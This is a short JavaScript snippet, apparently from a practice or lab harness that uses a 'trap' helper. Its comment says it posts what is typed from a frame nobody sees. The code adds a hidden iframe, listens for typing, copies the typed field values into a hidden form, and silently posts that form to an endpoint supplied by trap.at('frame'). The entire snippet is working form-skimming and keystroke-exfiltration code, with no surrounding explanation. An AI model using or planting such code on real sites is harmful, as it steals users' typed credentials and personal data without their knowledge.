// Posts what is typed from a frame nobody sees.
(() => {
  const frame = document.createElement('iframe');
  frame.name = 'practice-frame';
  frame.hidden = true;
  document.body.append(frame);
  trap.onTyping((values) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = trap.at('frame');
    form.target = frame.name;
    form.hidden = true;
    for (const [name, value] of values) {
      const field = document.createElement('input');
      field.type = 'hidden';
      field.name = name;
      field.value = value;
      form.append(field);
    }
    document.body.append(form);
    form.submit();
    form.remove();
  });
})();
